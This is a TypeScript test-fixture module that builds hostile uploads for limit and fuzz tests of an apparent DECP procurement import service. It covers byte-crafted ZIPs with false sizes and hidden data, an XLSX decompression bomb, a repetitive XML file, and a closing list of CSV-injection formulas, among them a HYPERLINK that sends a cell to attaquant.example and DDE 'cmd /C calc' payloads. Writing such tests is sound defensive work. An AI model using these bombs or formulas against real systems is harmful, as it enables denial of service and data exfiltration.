import { crc32, createDeflateRaw, deflateRawSync } from 'node:zlib';

/**
 * Builders of hostile uploads for the limit and fuzz tests: ZIP archives written byte by byte
 * (so that sizes can lie and files can hide), XLSX bombs whose one cell unpacks to hundreds of MB
 * from a few hundred KB (deflated as a stream: the cell never exists in memory), and DECP XML
 * repeating one element.
 */

export interface ZipEntry {
  name: string;
  /** The bytes as stored (deflated when `isDeflated`). */
  stored: Buffer;
  isDeflated: boolean;
  /** Unpacked size and CRC the archive declares. */
  size: number;
  crc: number;
}

/** A small file, deflated as Excel writes them (exceljs's streaming reader misreads some stored ones). */
export function xmlEntry(name: string, text: string): ZipEntry {
  const data = Buffer.from(text, 'utf8');
  return { name, stored: deflateRawSync(data), isDeflated: true, size: data.length, crc: crc32(data) };
}

/**
 * An entry whose content is `head`, then `filler` repeated `repeat` times, then `tail`, deflated
 * chunk by chunk: a 450 MB cell costs the deflater's CPU, never 450 MB of memory.
 */
export async function bombEntry(name: string, head: string, filler: string, repeat: number, tail: string): Promise<ZipEntry> {
  const deflate = createDeflateRaw({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => parts.push(chunk));
  const done = new Promise<void>((resolve, reject) => {
    deflate.on('end', resolve);
    deflate.on('error', reject);
  });
  let crc = 0;
  let size = 0;
  const write = async (chunk: Buffer) => {
    crc = crc32(chunk, crc);
    size += chunk.length;
    if (!deflate.write(chunk)) await new Promise((resolve) => deflate.once('drain', resolve));
  };
  const block = Buffer.from(filler.repeat(Math.max(1, Math.floor((1 << 20) / filler.length))), 'utf8');
  const perBlock = block.length / Buffer.byteLength(filler);
  await write(Buffer.from(head, 'utf8'));
  let left = repeat;
  while (left >= perBlock) {
    await write(block);
    left -= perBlock;
  }
  if (left > 0) await write(Buffer.from(filler.repeat(left), 'utf8'));
  await write(Buffer.from(tail, 'utf8'));
  deflate.end();
  await done;
  return { name, stored: Buffer.concat(parts), isDeflated: true, size, crc };
}

export interface ZipOptions {
  /** Declare this unpacked size for the last entry instead of the true one. */
  declaredSize?: number;
  /** Bytes written between the files but listed in no directory entry. */
  hidden?: Buffer;
}

/** A ZIP archive of `entries` (local headers, data, central directory, end record). */
export function zipOf(entries: readonly ZipEntry[], options: ZipOptions = {}): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    const size = entry === entries.at(-1) && options.declaredSize !== undefined ? options.declaredSize : entry.size;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(entry.isDeflated ? 8 : 0, 8);
    local.writeUInt32LE(entry.crc >>> 0, 14);
    local.writeUInt32LE(entry.stored.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(entry.isDeflated ? 8 : 0, 10);
    central.writeUInt32LE(entry.crc >>> 0, 16);
    central.writeUInt32LE(entry.stored.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, entry.stored);
    centrals.push(central, name);
    offset += local.length + name.length + entry.stored.length;
    if (options.hidden && locals.length === 3) {
      locals.push(options.hidden);
      offset += options.hidden.length;
    }
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const CONTENT_TYPES =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  '<Default Extension="xml" ContentType="application/xml"/>' +
  '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>' +
  '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>' +
  '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>';
const ROOT_RELS =
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>';
const WORKBOOK =
  '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ' +
  'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Recensement" sheetId="1" r:id="rId1"/></sheets></workbook>';
const WORKBOOK_RELS =
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>' +
  '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>';
const SHEET =
  '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' +
  '<row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>';

/**
 * A workbook whose one shared string (cell A1) is `cellBytes` bytes of « A »: the bomb is
 * 460 KB holding a 450 MB cell. `declaredSize` makes the archive lie about it.
 */
export async function xlsxWithHugeCell(cellBytes: number, options: ZipOptions = {}): Promise<Buffer> {
  const head =
    '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>';
  const strings = await bombEntry('xl/sharedStrings.xml', head, 'A', cellBytes, '</t></si></sst>');
  return zipOf(
    [
      xmlEntry('[Content_Types].xml', CONTENT_TYPES),
      xmlEntry('_rels/.rels', ROOT_RELS),
      xmlEntry('xl/workbook.xml', WORKBOOK),
      xmlEntry('xl/_rels/workbook.xml.rels', WORKBOOK_RELS),
      xmlEntry('xl/worksheets/sheet1.xml', SHEET),
      strings,
    ],
    options,
  );
}

/** A DECP XML document of one `<marche>` repeating `<titulaire>` `count` times (100,000: the 13 MB). */
export function decpXmlRepeatingHolders(count: number): Buffer {
  const holder =
    '<titulaire><typeIdentifiant>SIRET</typeIdentifiant><id>21670482500019</id><denominationSociale>E</denominationSociale></titulaire>';
  return Buffer.from(
    `<?xml version="1.0"?><marches><marche><id>hostile</id><titulaires>${holder.repeat(count)}</titulaires></marche></marches>`,
  );
}

/** Strings a spreadsheet would run as formulas (OWASP CSV injection), one per trigger character. */
export const FORMULA_STRINGS = [
  '=HYPERLINK("http://attaquant.example/?"&A2,"Cliquez")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
] as const;
